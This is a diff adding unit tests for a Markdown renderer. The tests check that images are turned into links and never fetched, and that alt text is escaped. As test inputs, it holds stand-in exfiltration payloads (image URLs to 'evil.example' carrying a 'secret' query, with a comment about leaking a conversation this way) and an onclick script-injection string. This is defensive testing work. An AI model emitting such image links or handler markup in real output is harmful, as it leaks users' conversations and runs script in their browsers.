@@ -30,4 +30,27 @@ describe("renderMarkdown", () => {
     expect(html).not.toContain("style=");
     expect(html).not.toContain("iframe");
   });
+
+  it("never loads images: a Markdown image becomes a link and raw <img> tags are removed", () => {
+    // An injected `![](https://evil/?q=<conversation>)` would be fetched as soon as it is rendered.
+    const html = renderMarkdown(
+      '![the chart](https://evil.example/x.png?q=secret) <img src="https://evil.example/y.png"> ' +
+        '<img src="/static/z.png"> ![](https://evil.example/w.png)',
+    );
+    const doc = new DOMParser().parseFromString(html, "text/html");
+    expect(doc.querySelectorAll("img")).toHaveLength(0);
+    expect(html).not.toContain("y.png");
+    const links = [...doc.querySelectorAll("a")];
+    const chart = links.find((a) => a.textContent === "the chart");
+    expect(chart?.getAttribute("href")).toBe("https://evil.example/x.png?q=secret");
+    expect(chart?.getAttribute("rel")).toBe("noopener noreferrer");
+    expect(links.some((a) => a.getAttribute("href") === "https://evil.example/w.png")).toBe(true);
+  });
+
+  it("escapes the alt text of an image it turns into a link", () => {
+    const html = renderMarkdown('![<b onclick="x()">hi</b>](https://example.com/p.png)');
+    const doc = new DOMParser().parseFromString(html, "text/html");
+    expect(doc.querySelector("img, b, [onclick]")).toBeNull();
+    expect(doc.querySelector("a")?.textContent).toBe('<b onclick="x()">hi</b>');
+  });
 });
